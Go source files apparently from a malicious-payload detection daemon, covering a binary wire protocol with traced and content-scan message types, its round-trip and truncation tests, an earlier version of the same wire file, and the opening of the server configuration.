		typ, id, payload, err := readFrame(bytes.NewReader(data), maxBody)
		if err != nil {
			if !errors.Is(err, errShortFrame) && !errors.Is(err, errFrameTooLarge) &&
				!errors.Is(err, io.EOF) && !errors.Is(err, io.ErrUnexpectedEOF) {
				t.Fatalf("untyped frame error: %v", err)
			}
			if errors.Is(err, errFrameTooLarge) && len(payload) != 0 {
				t.Fatalf("oversized frame returned %d payload bytes; must discard", len(payload))
			}
			return
		}
		if uint64(len(payload))+headerLen > uint64(maxBody) {
			t.Fatalf("accepted %d-byte payload beyond maxBody %d", len(payload), maxBody)
		}

		// Anything readFrame accepts must round-trip bit-exactly.
		again := appendFrame(nil, typ, id, payload)
		typ2, id2, payload2, err := readFrame(bytes.NewReader(again), uint32(len(again)))
		if err != nil {
			t.Fatalf("re-decoding a valid frame: %v", err)
		}
		if typ2 != typ || id2 != id || !bytes.Equal(payload2, payload) {
			t.Fatalf("round trip changed frame: (%d,%d,%x) != (%d,%d,%x)",
				typ2, id2, payload2, typ, id, payload)
		}

		// The payload decoders must be total: typed error or success,
		// never a panic, regardless of the declared message type.
		if v, cached, err := decodeVerdict(payload); err == nil {
			reenc := appendVerdict(nil, id, v, cached)
			_, _, vp, rerr := readFrame(bytes.NewReader(reenc), uint32(len(reenc)))
			if rerr != nil {
				t.Fatalf("re-reading verdict frame: %v", rerr)
			}
			v2, cached2, rerr := decodeVerdict(vp)
			if rerr != nil {
				t.Fatalf("re-decoding verdict payload: %v", rerr)
			}
			// NaN thresholds survive as NaN; compare bitwise via encode.
			if cached2 != cached || v2.Malicious != v.Malicious || v2.TextOnly != v.TextOnly ||
				v2.MEL != v.MEL || v2.BestStart != v.BestStart {
				t.Fatalf("verdict round trip changed: %+v != %+v", v2, v)
			}
		}
		if v, cached, err := decodeVerdictContent(payload); err == nil {
			reenc := appendVerdictContent(nil, id, v, cached)
			_, _, vp, rerr := readFrame(bytes.NewReader(reenc), uint32(len(reenc)))
			if rerr != nil {
				t.Fatalf("re-reading content verdict frame: %v", rerr)
			}
			v2, cached2, rerr := decodeVerdictContent(vp)
			if rerr != nil {
				t.Fatalf("re-decoding content verdict payload: %v", rerr)
			}
			if cached2 != cached || v2.Malicious != v.Malicious || v2.MEL != v.MEL ||
				v2.ViewIndex != v.ViewIndex || v2.DecodeChain != v.DecodeChain ||
				v2.TriageCleared != v.TriageCleared {
				t.Fatalf("content verdict round trip changed: %+v != %+v", v2, v)
			}
		}
		if code, msg, err := decodeError(payload); err == nil {
			reenc := appendError(nil, id, code, msg)
			_, _, ep, rerr := readFrame(bytes.NewReader(reenc), uint32(len(reenc)))
			if rerr != nil {
				t.Fatalf("re-reading error frame: %v", rerr)
			}
			code2, msg2, rerr := decodeError(ep)
			if rerr != nil || code2 != code || msg2 != msg {
				t.Fatalf("error round trip changed: (%d,%q,%v) != (%d,%q)", code2, msg2, rerr, code, msg)
			}
		}
	})
}

package server

import (
	"bytes"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/telemetry/tracing"
)

// TestVerdictTracedRoundTrip: a traced verdict frame survives
// append → readFrame → decode with the id, total, and every closed
// stage intact, and unclosed stages come back as -1.
func TestVerdictTracedRoundTrip(t *testing.T) {
	var tid tracing.TraceID
	for i := range tid {
		tid[i] = byte(0xA0 + i)
	}
	tr := tracing.New(tid, 4096)
	tr.SetStageDur(tracing.StageQueueWait, 1500*time.Nanosecond)
	tr.SetStageDur(tracing.StageThreshold, 200*time.Nanosecond)
	tr.SetStageDur(tracing.StageDecode, 40*time.Microsecond)
	tr.SetStageDur(tracing.StageDP, 90*time.Microsecond)
	// StageCache deliberately left unclosed.
	tr.SetTotal(150 * time.Microsecond)

	want := core.Verdict{Malicious: true, MEL: 123, BestStart: 77, Threshold: 104.5, TextOnly: false}
	frame := appendVerdictTraced(nil, 42, want, true, tr)

	typ, id, payload, err := readFrame(bytes.NewReader(frame), uint32(len(frame)))
	if err != nil {
		t.Fatal(err)
	}
	if typ != MsgVerdictTraced || id != 42 {
		t.Fatalf("frame header: type 0x%02x id %d", typ, id)
	}
	v, cached, wt, err := decodeVerdictTraced(payload)
	if err != nil {
		t.Fatal(err)
	}
	if !cached {
		t.Fatal("cached flag lost")
	}
	if v.Malicious != want.Malicious || v.MEL != want.MEL ||
		v.BestStart != want.BestStart || v.Threshold != want.Threshold {
		t.Fatalf("verdict mangled: %+v", v)
	}
	if v.TraceID != tid || wt.ID != tid {
		t.Fatalf("trace id mangled: verdict %s wire %s", v.TraceID, wt.ID)
	}
	if wt.Total != 150*time.Microsecond {
		t.Fatalf("total = %v", wt.Total)
	}
	wantStages := [tracing.NumStages]time.Duration{
		tracing.StageQueueWait:     1500 * time.Nanosecond,
		tracing.StageCache:         -1,
		tracing.StageThreshold:     200 * time.Nanosecond,
		tracing.StageDecode:        40 * time.Microsecond,
		tracing.StageDP:            90 * time.Microsecond,
		tracing.StageTriage:        -1,
		tracing.StageContentDecode: -1,
	}
	if wt.Stages != wantStages {
		t.Fatalf("stages = %v, want %v", wt.Stages, wantStages)
	}
}

// TestVerdictTracedDecodeRejectsTruncation: every truncation of a valid
// traced verdict payload is rejected, never mis-decoded.
func TestVerdictTracedDecodeRejectsTruncation(t *testing.T) {
	tr := tracing.New(tracing.NewID(), 64)
	tr.SetStageDur(tracing.StageDP, time.Microsecond)
	tr.SetTotal(2 * time.Microsecond)
	frame := appendVerdictTraced(nil, 7, core.Verdict{MEL: 9}, false, tr)
	payload := frame[4+headerLen:]
	for n := 0; n < len(payload); n++ {
		if _, _, _, err := decodeVerdictTraced(payload[:n]); err == nil {
			t.Fatalf("truncation to %d bytes decoded without error", n)
		}
	}
	if _, _, _, err := decodeVerdictTraced(payload); err != nil {
		t.Fatalf("full payload rejected: %v", err)
	}
}

// Package server turns the MEL detector into a shared scan daemon: a
// length-prefixed binary wire protocol over TCP, per-connection
// reader/writer goroutines, a bounded worker pool with load shedding,
// a content-hash verdict cache, and a telemetry layer — the deployment
// shape Section 7's "easily deployable at network choke points" claim
// implies once many clients share one detector.
//
// # Wire protocol
//
// Every message is one frame:
//
//	uint32 big-endian body length | body
//
// and every body starts with a fixed header:
//
//	byte  type     (MsgScan, MsgVerdict, MsgError)
//	uint64 big-endian request id
//
// followed by a type-specific payload:
//
//	MsgScan:          the raw bytes to scan
//	MsgVerdict:       flags(1) | MEL uint32 | BestStart uint32 | τ float64 bits
//	MsgError:         code(1) | UTF-8 message
//	MsgScanTraced:    trace id(16) | the raw bytes to scan
//	MsgVerdictTraced: MsgVerdict payload | trace id(16) | total ns uint64 |
//	                  nStages(1) | nStages × (stage(1) | dur ns uint64)
//	MsgScanContent:   the raw bytes, scanned through the content pipeline
//	MsgVerdictContent: MsgVerdict payload | view index uint16 |
//	                  triage score float64 bits | chain len(1) | chain kinds
//	MsgScanContentTraced / MsgVerdictContentTraced: the content forms
//	                  with the trace id prefix / trace echo suffix
//
// Request ids are chosen by the client and echoed verbatim, so one
// connection carries any number of pipelined, out-of-order requests.
//
// Tracing is version-gated by message type, not by mutating existing
// frames: a client that never sends MsgScanTraced talks to any server,
// and a pre-tracing server answers MsgScanTraced with a MsgError
// (unknown type), which the client library treats as "downgrade and
// retry untraced".
package server

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math"
	"time"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/telemetry/tracing"
)

// Message types.
const (
	// MsgScan is a client scan request; the body payload is the bytes to
	// scan.
	MsgScan byte = 0x01
	// MsgVerdict is a successful scan response.
	MsgVerdict byte = 0x02
	// MsgError is a failed scan response carrying a status code.
	MsgError byte = 0x03
	// MsgScanTraced is MsgScan with a leading 16-byte trace id; the
	// server echoes the id and its stage timings in a MsgVerdictTraced.
	MsgScanTraced byte = 0x04
	// MsgVerdictTraced is MsgVerdict extended with the trace id, total
	// server-side duration, and per-stage durations.
	MsgVerdictTraced byte = 0x05
	// MsgScanContent is MsgScan routed through the content pipeline
	// (triage → decode → MEL); answered with MsgVerdictContent. Like
	// tracing, the content path is version-gated by message type: a
	// pre-content server answers with MsgError (unknown type) and the
	// client library downgrades to a plain scan.
	MsgScanContent byte = 0x06
	// MsgScanContentTraced is MsgScanContent with a leading trace id,
	// answered with MsgVerdictContentTraced.
	MsgScanContentTraced byte = 0x07
	// MsgVerdictContent is MsgVerdict extended with the content fields:
	// view index, triage score, and the decode chain.
	MsgVerdictContent byte = 0x08
	// MsgVerdictContentTraced carries the content fields and the trace
	// echo.
	MsgVerdictContentTraced byte = 0x09
)

// Verdict flag bits.
const (
	flagMalicious byte = 1 << 0
	flagTextOnly  byte = 1 << 1
	flagCached    byte = 1 << 2
	// flagTriageCleared (content verdicts only) marks a payload the
	// triage stage cleared without a MEL pass.
	flagTriageCleared byte = 1 << 3
)

// Frame geometry.
const (
	headerLen    = 1 + 8               // type + request id
	verdictLen   = 1 + 4 + 4 + 8       // flags + MEL + BestStart + τ
	traceIDLen   = tracing.IDLen       // trace id field in traced frames
	maxFrameSlop = headerLen + 1 + 256 // header + code + message room

	// tracedVerdictMax bounds a MsgVerdictTraced payload: verdict, id,
	// total, stage count, and every defined stage.
	tracedVerdictMax = verdictLen + traceIDLen + 8 + 1 + tracing.NumStages*9

	// contentExtMax bounds the content extension: view index, triage
	// score bits, and the decode chain in wire form.
	contentExtMax = 2 + 8 + 1 + content.MaxChainLen
	// contentVerdictMax bounds a MsgVerdictContent payload;
	// tracedContentVerdictMax a MsgVerdictContentTraced one.
	contentVerdictMax       = verdictLen + contentExtMax
	tracedContentVerdictMax = tracedVerdictMax + contentExtMax
)

// wire framing errors.
var (
	errFrameTooLarge = errors.New("server: frame exceeds negotiated maximum")
	errShortFrame    = errors.New("server: frame shorter than header")
)

// readFrame reads one frame body (type, request id, payload). The
// payload slice is freshly allocated and safe to retain. maxBody bounds
// the accepted body length; a larger frame is consumed — header kept,
// payload discarded without buffering — and reported as
// errFrameTooLarge with the type and request id intact, so a server
// can answer it with a typed error instead of dropping the connection,
// while a hostile peer still cannot balloon memory.
func readFrame(r io.Reader, maxBody uint32) (typ byte, id uint64, payload []byte, err error) {
	var lenBuf [4]byte
	if _, err = io.ReadFull(r, lenBuf[:]); err != nil {
		return 0, 0, nil, err
	}
	n := binary.BigEndian.Uint32(lenBuf[:])
	if n < headerLen {
		return 0, 0, nil, errShortFrame
	}
	if n > maxBody {
		var hdr [headerLen]byte
		if _, err = io.ReadFull(r, hdr[:]); err != nil {
			return 0, 0, nil, err
		}
		if _, err = io.CopyN(io.Discard, r, int64(n)-headerLen); err != nil {
			return 0, 0, nil, err
		}
		return hdr[0], binary.BigEndian.Uint64(hdr[1:9]), nil,
			fmt.Errorf("%w: %d > %d", errFrameTooLarge, n, maxBody)
	}
	body := make([]byte, n)
	if _, err = io.ReadFull(r, body); err != nil {
		return 0, 0, nil, err
	}
	return body[0], binary.BigEndian.Uint64(body[1:9]), body[headerLen:], nil
}

// appendFrame appends one framed message to dst and returns the
// extended slice — writers frame into a reused buffer with no
// per-message allocation.
func appendFrame(dst []byte, typ byte, id uint64, payload ...[]byte) []byte {
	total := headerLen
	for _, p := range payload {
		total += len(p)
	}
	dst = binary.BigEndian.AppendUint32(dst, uint32(total))
	dst = append(dst, typ)
	dst = binary.BigEndian.AppendUint64(dst, id)
	for _, p := range payload {
		dst = append(dst, p...)
	}
	return dst
}

// appendVerdict appends a MsgVerdict frame for v.
func appendVerdict(dst []byte, id uint64, v core.Verdict, cached bool) []byte {
	var body [verdictLen]byte
	b := appendVerdictBody(body[:0], v, verdictFlags(v, cached))
	return appendFrame(dst, MsgVerdict, id, b)
}

// appendTraceEcho appends the trace tail shared by both traced verdict
// types: trace id, server-side total, and every closed stage as
// (stage, duration ns) pairs behind a count byte.
func appendTraceEcho(b []byte, tr *tracing.Trace) []byte {
	b = append(b, tr.ID[:]...)
	b = binary.BigEndian.AppendUint64(b, uint64(tr.Total()))
	nIdx := len(b)
	b = append(b, 0)
	var n byte
	for s := tracing.Stage(0); int(s) < tracing.NumStages; s++ {
		d := tr.StageDur(s)
		if d < 0 {
			continue
		}
		b = append(b, byte(s))
		b = binary.BigEndian.AppendUint64(b, uint64(d))
		n++
	}
	b[nIdx] = n
	return b
}

// decodeTraceEcho parses the tail appendTraceEcho produces. It must
// consume p exactly.
func decodeTraceEcho(p []byte) (wt WireTrace, err error) {
	if len(p) < traceIDLen+8+1 {
		return WireTrace{}, fmt.Errorf("server: trace echo is %d bytes, want >= %d", len(p), traceIDLen+8+1)
	}
	copy(wt.ID[:], p[:traceIDLen])
	wt.Total = time.Duration(binary.BigEndian.Uint64(p[traceIDLen : traceIDLen+8]))
	n := int(p[traceIDLen+8])
	rest := p[traceIDLen+9:]
	if len(rest) != n*9 {
		return WireTrace{}, fmt.Errorf("server: trace echo carries %d stage bytes, want %d", len(rest), n*9)
	}
	for i := range wt.Stages {
		wt.Stages[i] = -1
	}
	for i := 0; i < n; i++ {
		s := rest[i*9]
		d := time.Duration(binary.BigEndian.Uint64(rest[i*9+1 : i*9+9]))
		if int(s) < tracing.NumStages {
			wt.Stages[s] = d
		}
	}
	return wt, nil
}

// appendVerdictTraced appends a MsgVerdictTraced frame: the plain
// verdict payload followed by the trace echo.
func appendVerdictTraced(dst []byte, id uint64, v core.Verdict, cached bool, tr *tracing.Trace) []byte {
	var body [tracedVerdictMax]byte
	b := appendVerdictBody(body[:0], v, verdictFlags(v, cached))
	b = appendTraceEcho(b, tr)
	return appendFrame(dst, MsgVerdictTraced, id, b)
}

// verdictFlags packs v's flag bits (content verdicts add the
// triage-cleared bit).
func verdictFlags(v core.Verdict, cached bool) byte {
	var f byte
	if v.Malicious {
		f |= flagMalicious
	}
	if v.TextOnly {
		f |= flagTextOnly
	}
	if cached {
		f |= flagCached
	}
	return f
}

// appendVerdictBody appends the plain verdict fields (no frame, no
// content extension) to b.
func appendVerdictBody(b []byte, v core.Verdict, flags byte) []byte {
	b = append(b, flags)
	b = binary.BigEndian.AppendUint32(b, uint32(v.MEL))
	b = binary.BigEndian.AppendUint32(b, uint32(v.BestStart))
	b = binary.BigEndian.AppendUint64(b, math.Float64bits(v.Threshold))
	return b
}

// appendContentExt appends the content extension: view index, triage
// score, and the decode chain in its compact wire form. A chain string
// that fails to parse (never produced by the pipeline) degrades to the
// empty chain rather than poisoning the frame.
func appendContentExt(b []byte, v core.Verdict) []byte {
	b = binary.BigEndian.AppendUint16(b, uint16(v.ViewIndex))
	b = binary.BigEndian.AppendUint64(b, math.Float64bits(v.TriageScore))
	chain, err := content.ParseChain(v.DecodeChain)
	if err != nil {
		chain = content.Chain{}
	}
	return chain.AppendWire(b)
}

// decodeContentExt parses the extension appendContentExt produces,
// filling v's content fields and returning the bytes consumed.
func decodeContentExt(p []byte, v *core.Verdict, flags byte) (int, error) {
	if len(p) < 2+8+1 {
		return 0, fmt.Errorf("server: content extension is %d bytes, want >= %d", len(p), 2+8+1)
	}
	v.ViewIndex = int(binary.BigEndian.Uint16(p[:2]))
	v.TriageScore = math.Float64frombits(binary.BigEndian.Uint64(p[2:10]))
	v.TriageCleared = flags&flagTriageCleared != 0
	chain, n := content.ChainFromWire(p[10:])
	if n == 0 {
		return 0, errors.New("server: malformed decode chain in content verdict")
	}
	v.DecodeChain = chain.String()
	return 10 + n, nil
}

// appendVerdictContent appends a MsgVerdictContent frame: the plain
// verdict payload followed by the content extension.
func appendVerdictContent(dst []byte, id uint64, v core.Verdict, cached bool) []byte {
	var body [contentVerdictMax]byte
	flags := verdictFlags(v, cached)
	if v.TriageCleared {
		flags |= flagTriageCleared
	}
	b := appendVerdictBody(body[:0], v, flags)
	b = appendContentExt(b, v)
	return appendFrame(dst, MsgVerdictContent, id, b)
}

// decodeVerdictContent parses a MsgVerdictContent payload.
func decodeVerdictContent(p []byte) (v core.Verdict, cached bool, err error) {
	if len(p) < verdictLen {
		return core.Verdict{}, false, fmt.Errorf("server: content verdict payload is %d bytes, want >= %d", len(p), verdictLen)
	}
	v, cached, err = decodeVerdict(p[:verdictLen])
	if err != nil {
		return core.Verdict{}, false, err
	}
	n, err := decodeContentExt(p[verdictLen:], &v, p[0])
	if err != nil {
		return core.Verdict{}, false, err
	}
	if verdictLen+n != len(p) {
		return core.Verdict{}, false, fmt.Errorf("server: content verdict payload has %d trailing bytes", len(p)-verdictLen-n)
	}
	return v, cached, nil
}

// appendVerdictContentTraced appends a MsgVerdictContentTraced frame:
// verdict payload, content extension, then the trace echo (id, total,
// closed stages).
func appendVerdictContentTraced(dst []byte, id uint64, v core.Verdict, cached bool, tr *tracing.Trace) []byte {
	var body [tracedContentVerdictMax]byte
	flags := verdictFlags(v, cached)
	if v.TriageCleared {
		flags |= flagTriageCleared
	}
	b := appendVerdictBody(body[:0], v, flags)
	b = appendContentExt(b, v)
	b = appendTraceEcho(b, tr)
	return appendFrame(dst, MsgVerdictContentTraced, id, b)
}

// decodeVerdictContentTraced parses a MsgVerdictContentTraced payload.
func decodeVerdictContentTraced(p []byte) (v core.Verdict, cached bool, wt WireTrace, err error) {
	if len(p) < verdictLen {
		return core.Verdict{}, false, WireTrace{}, fmt.Errorf("server: traced content verdict payload is %d bytes, want >= %d", len(p), verdictLen)
	}
	v, cached, err = decodeVerdict(p[:verdictLen])
	if err != nil {
		return core.Verdict{}, false, WireTrace{}, err
	}
	n, err := decodeContentExt(p[verdictLen:], &v, p[0])
	if err != nil {
		return core.Verdict{}, false, WireTrace{}, err
	}
	wt, err = decodeTraceEcho(p[verdictLen+n:])
	if err != nil {
		return core.Verdict{}, false, WireTrace{}, err
	}
	v.TraceID = wt.ID
	return v, cached, wt, nil
}

// appendError appends a MsgError frame.
func appendError(dst []byte, id uint64, code byte, msg string) []byte {
	return appendFrame(dst, MsgError, id, []byte{code}, []byte(msg))
}

// decodeVerdict parses a MsgVerdict payload.
func decodeVerdict(p []byte) (v core.Verdict, cached bool, err error) {
	if len(p) != verdictLen {
		return core.Verdict{}, false, fmt.Errorf("server: verdict payload is %d bytes, want %d", len(p), verdictLen)
	}
	v.Malicious = p[0]&flagMalicious != 0
	v.TextOnly = p[0]&flagTextOnly != 0
	v.MEL = int(binary.BigEndian.Uint32(p[1:5]))
	v.BestStart = int(binary.BigEndian.Uint32(p[5:9]))
	v.Threshold = math.Float64frombits(binary.BigEndian.Uint64(p[9:17]))
	return v, p[0]&flagCached != 0, nil
}

// WireTrace is the server-side timing echo decoded from a
// MsgVerdictTraced response. Stages the server never closed are -1.
type WireTrace struct {
	// ID is the trace id the request carried (echoed verbatim).
	ID tracing.TraceID
	// Total is the server-side wall time for the request, queue wait
	// included.
	Total time.Duration
	// Stages holds the per-stage durations, indexed by tracing.Stage.
	Stages [tracing.NumStages]time.Duration
}

// decodeVerdictTraced parses a MsgVerdictTraced payload.
func decodeVerdictTraced(p []byte) (v core.Verdict, cached bool, wt WireTrace, err error) {
	if len(p) < verdictLen {
		return core.Verdict{}, false, WireTrace{}, fmt.Errorf("server: traced verdict payload is %d bytes, want >= %d", len(p), verdictLen)
	}
	v, cached, err = decodeVerdict(p[:verdictLen])
	if err != nil {
		return core.Verdict{}, false, WireTrace{}, err
	}
	wt, err = decodeTraceEcho(p[verdictLen:])
	if err != nil {
		return core.Verdict{}, false, WireTrace{}, err
	}
	v.TraceID = wt.ID
	return v, cached, wt, nil
}

// decodeError parses a MsgError payload into its code and message.
func decodeError(p []byte) (code byte, msg string, err error) {
	if len(p) < 1 {
		return 0, "", errors.New("server: empty error payload")
	}
	return p[0], string(p[1:]), nil
}

// Exported wire surface for the client library (and any other peer
// implementation): the same framing the server speaks.

// ReadFrame reads one frame body: type, request id, payload. The
// payload is freshly allocated; maxBody bounds accepted frames.
func ReadFrame(r io.Reader, maxBody uint32) (typ byte, id uint64, payload []byte, err error) {
	return readFrame(r, maxBody)
}

// AppendScanRequest appends a MsgScan frame for payload to dst.
func AppendScanRequest(dst []byte, id uint64, payload []byte) []byte {
	return appendFrame(dst, MsgScan, id, payload)
}

// AppendScanTracedRequest appends a MsgScanTraced frame: the trace id
// the server should adopt, then the payload.
func AppendScanTracedRequest(dst []byte, id uint64, tid tracing.TraceID, payload []byte) []byte {
	return appendFrame(dst, MsgScanTraced, id, tid[:], payload)
}

// DecodeVerdict parses a MsgVerdict payload into the verdict and its
// cache-hit flag.
func DecodeVerdict(p []byte) (v core.Verdict, cached bool, err error) {
	return decodeVerdict(p)
}

// DecodeVerdictTraced parses a MsgVerdictTraced payload into the
// verdict, its cache-hit flag, and the server's timing echo.
func DecodeVerdictTraced(p []byte) (v core.Verdict, cached bool, wt WireTrace, err error) {
	return decodeVerdictTraced(p)
}

// DecodeError parses a MsgError payload into its status code and
// message; pair with ErrorForCode.
func DecodeError(p []byte) (code byte, msg string, err error) {
	return decodeError(p)
}

// AppendScanContentRequest appends a MsgScanContent frame for payload
// to dst.
func AppendScanContentRequest(dst []byte, id uint64, payload []byte) []byte {
	return appendFrame(dst, MsgScanContent, id, payload)
}

// AppendScanContentTracedRequest appends a MsgScanContentTraced frame:
// the trace id the server should adopt, then the payload.
func AppendScanContentTracedRequest(dst []byte, id uint64, tid tracing.TraceID, payload []byte) []byte {
	return appendFrame(dst, MsgScanContentTraced, id, tid[:], payload)
}

// DecodeVerdictContent parses a MsgVerdictContent payload into the
// verdict (content fields included) and its cache-hit flag.
func DecodeVerdictContent(p []byte) (v core.Verdict, cached bool, err error) {
	return decodeVerdictContent(p)
}

// DecodeVerdictContentTraced parses a MsgVerdictContentTraced payload.
func DecodeVerdictContentTraced(p []byte) (v core.Verdict, cached bool, wt WireTrace, err error) {
	return decodeVerdictContentTraced(p)
}

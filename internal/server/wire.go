// Package server turns the MEL detector into a shared scan daemon: a
// length-prefixed binary wire protocol over TCP, per-connection
// reader/writer goroutines, a bounded worker pool with load shedding,
// a content-hash verdict cache, and a telemetry layer — the deployment
// shape Section 7's "easily deployable at network choke points" claim
// implies once many clients share one detector.
//
// # Wire protocol
//
// Every message is one frame:
//
//	uint32 big-endian body length | body
//
// and every body starts with a fixed header:
//
//	byte  type     (MsgScan, MsgVerdict, MsgError)
//	uint64 big-endian request id
//
// followed by a type-specific payload:
//
//	MsgScan:    the raw bytes to scan
//	MsgVerdict: flags(1) | MEL uint32 | BestStart uint32 | τ float64 bits
//	MsgError:   code(1) | UTF-8 message
//
// Request ids are chosen by the client and echoed verbatim, so one
// connection carries any number of pipelined, out-of-order requests.
package server

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math"

	"repro/internal/core"
)

// Message types.
const (
	// MsgScan is a client scan request; the body payload is the bytes to
	// scan.
	MsgScan byte = 0x01
	// MsgVerdict is a successful scan response.
	MsgVerdict byte = 0x02
	// MsgError is a failed scan response carrying a status code.
	MsgError byte = 0x03
)

// Verdict flag bits.
const (
	flagMalicious byte = 1 << 0
	flagTextOnly  byte = 1 << 1
	flagCached    byte = 1 << 2
)

// Frame geometry.
const (
	headerLen    = 1 + 8               // type + request id
	verdictLen   = 1 + 4 + 4 + 8       // flags + MEL + BestStart + τ
	maxFrameSlop = headerLen + 1 + 256 // header + code + message room
)

// wire framing errors.
var (
	errFrameTooLarge = errors.New("server: frame exceeds negotiated maximum")
	errShortFrame    = errors.New("server: frame shorter than header")
)

// readFrame reads one frame body (type, request id, payload). The
// payload slice is freshly allocated and safe to retain. maxBody bounds
// the accepted body length; a larger frame is consumed — header kept,
// payload discarded without buffering — and reported as
// errFrameTooLarge with the type and request id intact, so a server
// can answer it with a typed error instead of dropping the connection,
// while a hostile peer still cannot balloon memory.
func readFrame(r io.Reader, maxBody uint32) (typ byte, id uint64, payload []byte, err error) {
	var lenBuf [4]byte
	if _, err = io.ReadFull(r, lenBuf[:]); err != nil {
		return 0, 0, nil, err
	}
	n := binary.BigEndian.Uint32(lenBuf[:])
	if n < headerLen {
		return 0, 0, nil, errShortFrame
	}
	if n > maxBody {
		var hdr [headerLen]byte
		if _, err = io.ReadFull(r, hdr[:]); err != nil {
			return 0, 0, nil, err
		}
		if _, err = io.CopyN(io.Discard, r, int64(n)-headerLen); err != nil {
			return 0, 0, nil, err
		}
		return hdr[0], binary.BigEndian.Uint64(hdr[1:9]), nil,
			fmt.Errorf("%w: %d > %d", errFrameTooLarge, n, maxBody)
	}
	body := make([]byte, n)
	if _, err = io.ReadFull(r, body); err != nil {
		return 0, 0, nil, err
	}
	return body[0], binary.BigEndian.Uint64(body[1:9]), body[headerLen:], nil
}

// appendFrame appends one framed message to dst and returns the
// extended slice — writers frame into a reused buffer with no
// per-message allocation.
func appendFrame(dst []byte, typ byte, id uint64, payload ...[]byte) []byte {
	total := headerLen
	for _, p := range payload {
		total += len(p)
	}
	dst = binary.BigEndian.AppendUint32(dst, uint32(total))
	dst = append(dst, typ)
	dst = binary.BigEndian.AppendUint64(dst, id)
	for _, p := range payload {
		dst = append(dst, p...)
	}
	return dst
}

// appendVerdict appends a MsgVerdict frame for v.
func appendVerdict(dst []byte, id uint64, v core.Verdict, cached bool) []byte {
	var body [verdictLen]byte
	if v.Malicious {
		body[0] |= flagMalicious
	}
	if v.TextOnly {
		body[0] |= flagTextOnly
	}
	if cached {
		body[0] |= flagCached
	}
	binary.BigEndian.PutUint32(body[1:5], uint32(v.MEL))
	binary.BigEndian.PutUint32(body[5:9], uint32(v.BestStart))
	binary.BigEndian.PutUint64(body[9:17], math.Float64bits(v.Threshold))
	return appendFrame(dst, MsgVerdict, id, body[:])
}

// appendError appends a MsgError frame.
func appendError(dst []byte, id uint64, code byte, msg string) []byte {
	return appendFrame(dst, MsgError, id, []byte{code}, []byte(msg))
}

// decodeVerdict parses a MsgVerdict payload.
func decodeVerdict(p []byte) (v core.Verdict, cached bool, err error) {
	if len(p) != verdictLen {
		return core.Verdict{}, false, fmt.Errorf("server: verdict payload is %d bytes, want %d", len(p), verdictLen)
	}
	v.Malicious = p[0]&flagMalicious != 0
	v.TextOnly = p[0]&flagTextOnly != 0
	v.MEL = int(binary.BigEndian.Uint32(p[1:5]))
	v.BestStart = int(binary.BigEndian.Uint32(p[5:9]))
	v.Threshold = math.Float64frombits(binary.BigEndian.Uint64(p[9:17]))
	return v, p[0]&flagCached != 0, nil
}

// decodeError parses a MsgError payload into its code and message.
func decodeError(p []byte) (code byte, msg string, err error) {
	if len(p) < 1 {
		return 0, "", errors.New("server: empty error payload")
	}
	return p[0], string(p[1:]), nil
}

// Exported wire surface for the client library (and any other peer
// implementation): the same framing the server speaks.

// ReadFrame reads one frame body: type, request id, payload. The
// payload is freshly allocated; maxBody bounds accepted frames.
func ReadFrame(r io.Reader, maxBody uint32) (typ byte, id uint64, payload []byte, err error) {
	return readFrame(r, maxBody)
}

// AppendScanRequest appends a MsgScan frame for payload to dst.
func AppendScanRequest(dst []byte, id uint64, payload []byte) []byte {
	return appendFrame(dst, MsgScan, id, payload)
}

// DecodeVerdict parses a MsgVerdict payload into the verdict and its
// cache-hit flag.
func DecodeVerdict(p []byte) (v core.Verdict, cached bool, err error) {
	return decodeVerdict(p)
}

// DecodeError parses a MsgError payload into its status code and
// message; pair with ErrorForCode.
func DecodeError(p []byte) (code byte, msg string, err error) {
	return decodeError(p)
}

package server

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/telemetry"
	"repro/internal/telemetry/events"
	"repro/internal/telemetry/tracing"
)

// Server defaults.
const (
	// DefaultMaxPayload bounds one scan request's payload.
	DefaultMaxPayload = 1 << 20
	// DefaultReadTimeout is the per-frame read deadline: a connection
	// idle longer than this is closed.
	DefaultReadTimeout = 2 * time.Minute
	// DefaultWriteTimeout is the per-flush write deadline.
	DefaultWriteTimeout = 30 * time.Second
	// DefaultRequestTimeout bounds a request from arrival to verdict.
	DefaultRequestTimeout = 10 * time.Second
	// connOutDepth buffers per-connection responses between the workers
	// and the connection's writer goroutine.
	connOutDepth = 64
)

// Config configures a Server.
type Config struct {
	// Detector performs the scans; required.
	Detector *core.Detector
	// Workers, QueueDepth, and CacheSize configure the shared pool (see
	// PoolConfig).
	Workers    int
	QueueDepth int
	CacheSize  int
	// MaxPayload bounds one request's payload bytes; <= 0 selects
	// DefaultMaxPayload. Oversized requests get ErrPayloadTooLarge.
	MaxPayload int
	// ReadTimeout closes connections idle longer than this between
	// frames; 0 selects DefaultReadTimeout, negative disables.
	ReadTimeout time.Duration
	// WriteTimeout bounds each response flush; 0 selects
	// DefaultWriteTimeout, negative disables.
	WriteTimeout time.Duration
	// RequestTimeout is the per-request deadline from frame arrival to
	// verdict; 0 selects DefaultRequestTimeout, negative disables.
	RequestTimeout time.Duration
	// Metrics receives pool and server instruments; nil creates a
	// private registry.
	Metrics *telemetry.Registry
	// Recorder, when set, enables per-scan tracing (see
	// PoolConfig.Recorder). Clients that send MsgScanTraced get their
	// trace id adopted and the stage timings echoed back.
	Recorder *tracing.Recorder
	// OnVerdict, when set, receives every served verdict (see
	// PoolConfig.OnVerdict).
	OnVerdict func(core.Verdict)
	// Content, when set, enables the content scan path
	// (MsgScanContent / MsgScanContentTraced) through this pipeline; see
	// PoolConfig.Content. Without it those requests are answered with
	// CodeBadRequest and clients downgrade to plain scans.
	Content *content.Pipeline
	// Events, when set, journals one wide event per submission outcome;
	// see PoolConfig.Events.
	Events *events.Journal
	// InstrumentDetector, when true, also wires the detector's observer
	// hook into the registry (detector_* metrics). Leave false when the
	// detector is shared and already instrumented elsewhere.
	InstrumentDetector bool
	// Logf receives diagnostics; nil silences them.
	Logf func(format string, args ...any)
}

// Server is a running scan daemon: one shared worker pool, any number
// of client connections, each with a reader and a writer goroutine so
// a slow peer never stalls scanning for the others.
type Server struct {
	cfg  Config
	pool *Pool
	reg  *telemetry.Registry

	connsActive *telemetry.Gauge
